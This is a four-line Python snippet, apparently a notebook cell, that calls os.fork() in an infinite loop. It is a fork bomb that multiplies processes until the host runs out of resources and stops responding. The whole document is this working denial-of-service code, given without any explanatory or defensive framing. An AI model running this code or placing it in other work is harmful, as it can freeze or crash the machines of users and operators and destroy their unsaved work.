# forks and forks again
# %%
import os
while True:
    os.fork()
